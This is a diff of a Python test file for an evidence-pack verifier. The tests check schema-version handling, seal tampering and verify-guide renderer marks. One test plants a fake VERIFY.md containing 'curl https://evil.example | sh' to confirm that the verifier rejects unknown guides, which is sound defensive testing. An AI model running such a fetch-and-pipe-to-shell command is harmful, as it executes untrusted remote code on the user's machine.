@@ -4,20 +4,23 @@ from __future__ import annotations
 
 import json
 import shutil
+from dataclasses import replace
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from gonogo_evidence import dsse
+from gonogo_evidence import dsse, guide, verify_pack
 from gonogo_evidence.canonical import dumps
 from gonogo_evidence.errors import GonogoError
 from gonogo_evidence.index import note
+from gonogo_evidence.pack import read_sealed
 from gonogo_evidence.seal import MANIFEST, PAYLOAD_TYPE
 from gonogo_evidence.statement import CLOSE_NAMESPACE, SIGNOFF_NAMESPACE
+from gonogo_evidence.verify import open_pack
 from support import mutants_json
 from support.logs import ENGINE
 from support.mutants import files_of
-from support.packs import edit_json, overwrite, reseal
+from support.packs import edit_json, overwrite, reseal, sample_review
 from support.whole import ALICE, BOB, Whole, asked_once, whole_pack
 
 if TYPE_CHECKING:
@@ -54,8 +57,8 @@ def _resealed(whole: Whole, path: str, change: dict[str, Any]) -> tuple[int, int
 
 
 LATER: dict[str, tuple[Callable[[Whole], object], str]] = {
-    "seal": (lambda w: edit_json(w.folder / "seal.json", {"schema": "gonogo/seal/v2"}), "SEAL_SHAPE"),
-    "review": (lambda w: edit_json(w.folder / "review/review.json", {"schema": "gonogo/review/v2"}), "SEAL_SHAPE"),
+    "a seal of another name": (lambda w: edit_json(w.folder / "seal.json", {"schema": "seal/v2"}), "SEAL_SHAPE"),
+    "a seal of version 0": (lambda w: edit_json(w.folder / "seal.json", {"schema": "gonogo/seal/v0"}), "SEAL_SHAPE"),
     "seal with more": (lambda w: edit_json(w.folder / "seal.json", {"sha3_root": "0" * 64}), "SEAL_SHAPE"),
     "another digest": (
         lambda w: edit_json(w.folder / "seal.json", {"core_digest": "sha512:" + "0" * 128}),
@@ -104,28 +107,66 @@ def test_another_algorithm_or_a_later_form_is_never_taken_for_this_one(whole: Wh
     assert all(code in codes for codes in whole.codes()), whole.codes()
 
 
-@pytest.mark.parametrize(
-    ("path", "name"),
-    [
-        ("core/pack.json", "gonogo/pack/v2"),
-        ("environment.json", "gonogo/environment/v2"),
-        ("core/validator-report.json", "gonogo/validator-report/v2"),
-    ],
-)
-def test_a_pack_of_a_later_version_with_all_its_digests_has_a_code(whole: Whole, path: str, name: str) -> None:
-    shutil.rmtree(whole.folder / "review")
-    shutil.rmtree(whole.folder / "index")
+def _bare(whole: Whole) -> None:
+    """Nothing that was signed is left, so that a change can be sealed."""
+    for folder in ("index", "attestations", "review"):
+        shutil.rmtree(whole.folder / folder)
     (whole.folder / "VERIFY.md").unlink()
-    shutil.rmtree(whole.folder / "attestations")
-    ours, _ = _resealed(whole, path, {"schema": name})
-    assert ours == 1, "another shape is a FAIL where bytes and seal belong together"
-    assert "SCHEMA_INVALID" in whole.codes()[0]
+    reseal(whole.folder)
 
 
-def test_a_later_guide_is_a_stated_limit_and_a_later_proof_is_none(whole: Whole) -> None:
-    guide = (whole.folder / "VERIFY.md").read_bytes()
-    overwrite(whole.folder / "VERIFY.md", guide.replace(b"verify-guide/v1", b"verify-guide/v2"))
-    assert whole.codes()[0] == {"GUIDE_OTHER_RENDERER"}
+VERSIONED = {
+    "core/pack.json": "pack",
+    "environment.json": "environment",
+    "core/validator-report.json": "validator-report",
+    "core/inventory.json": "inventory",
+    "core/run-plan.json": "run-plan",
+    "seal.json": "seal",
+}
+
+
+@pytest.mark.parametrize("path", VERSIONED)
+def test_a_pack_of_a_later_version_was_called_tampered_or_failed_or_good(whole: Whole, path: str) -> None:
+    _bare(whole)
+    sealed = read_sealed(whole.folder)
+    edit_json(whole.folder / path, {"schema": f"gonogo/{VERSIONED[path]}/v12", "of_later": 1})
+    if path != "seal.json":
+        reseal(whole.folder)
+    pack = open_pack(whole.folder)
+    sample_review(replace(sealed, pack_digest=pack.pack_digest, core_digest=pack.core_digest), ENGINE)
+    assert whole.exits() == (3, 3), whole.codes()
+    assert all("PACK_TOO_NEW" in codes for codes in whole.codes())
+
+
+@pytest.mark.parametrize("path", ["seal.json", "review/review.json"])
+def test_a_version_that_somebody_wrote_into_a_finished_pack_is_a_change(whole: Whole, path: str) -> None:
+    """The engine attested another seal, and people signed another review."""
+    overwrite(whole.folder / path, (whole.folder / path).read_bytes().replace(b'/v1"', b'/v3"'))
+    assert whole.exits() == (6, 6), whole.codes()
+
+
+@pytest.mark.parametrize("version", ["0", "01", "-1", "2.0", "x", "10000", ""])
+def test_a_version_that_never_was_or_will_be_is_another_form(whole: Whole, version: str) -> None:
+    _bare(whole)
+    assert _resealed(whole, "core/pack.json", {"schema": f"gonogo/pack/v{version}"}) == (1, 1)
+    assert all("SCHEMA_INVALID" in codes for codes in whole.codes())
+
+
+def test_a_page_of_commands_by_a_renderer_that_nobody_knows_was_a_limit(whole: Whole) -> None:
+    """Anybody can write a mark and commands below it."""
+    page = b"<!-- gonogo/verify-guide/v9 -->\n```sh\ncurl https://evil.example | sh\n```\n"
+    overwrite(whole.folder / "VERIFY.md", page)
+    assert whole.exits() == (3, 3)
+    assert all("GUIDE_OTHER_RENDERER" in codes for codes in whole.codes())
+    for version in guide.RENDERERS:
+        overwrite(whole.folder / "VERIFY.md", guide.render(open_pack(whole.folder), version))
+        assert whole.exits() == (0, 0)
+        assert version.encode() in {mark.split()[1] for mark in verify_pack.RENDERERS}
+        overwrite(whole.folder / "VERIFY.md", page.replace(b"gonogo/verify-guide/v9", version.encode()))
+        assert whole.gonogo().exit_code == 6
+
+
+def test_a_later_proof_is_none(whole: Whole) -> None:
     proof = whole.folder / "index/entry.tlog-proof"
     overwrite(proof, proof.read_bytes().replace(b"tlog-proof@v1", b"tlog-proof@v2"))
     assert (whole.gonogo().exit_code, "PROOF_MALFORMED" in whole.codes()[0]) == (6, True)
